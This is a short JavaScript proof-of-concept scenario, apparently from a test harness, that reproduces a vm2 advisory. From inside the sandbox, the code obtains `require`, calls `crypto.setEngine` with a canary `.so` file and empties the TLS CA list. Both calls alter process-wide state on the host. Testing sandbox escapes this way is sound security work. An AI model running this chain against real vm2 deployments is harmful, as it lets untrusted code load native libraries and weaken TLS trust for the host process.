// Source: vm2 advisory GHSA-98xx-8mx4-x7cm (test/ghsa/GHSA-98xx-8mx4-x7cm/ in vm2's repository; fixed after vm2 3.11.2, by 3.12.2): `crypto.setEngine` and `tls.setDefaultCACertificates` changed process-wide state from the sandbox.
// The chain below follows the advisory's repro.js, or vm2's lib/ comment for it where the repro was not read.
// NodeVM only: the advisory needs NodeVM's `require`. A scenario runs in a plain vm2 VM with no
// `require`, `module` or `process`, so the PoC first looks for every way to a `require` the public
// PoCs use (`__wr.eachRequire`), then runs the advisory's chain with whatever it found.
// Tried: crypto.setEngine, tls.setDefaultCACertificates.
const out = {};
await __wr.eachRequire(out, async (req, label) => {
  try {
    req('crypto').setEngine(query.canaryFile + '.so'); req('tls').setDefaultCACertificates([]);
  } catch (e) { out[label + 'Chain'] = String(e && e.message).slice(0, 60); }
});
return out;
